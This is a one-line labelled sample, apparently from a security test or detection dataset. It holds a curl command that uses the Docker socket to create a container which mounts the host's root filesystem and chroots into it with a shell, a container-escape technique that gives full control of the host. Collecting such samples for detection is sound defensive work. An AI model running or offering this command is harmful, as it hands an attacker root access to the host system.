# malicious: asks the container engine through its socket
curl -s --unix-socket /var/run/docker.sock -X POST -H 'Content-Type: application/json' \
  -d '{"Image":"alpine","Cmd":["chroot","/h","sh"],"HostConfig":{"Binds":["/:/h"]}}' http://localhost/containers/create
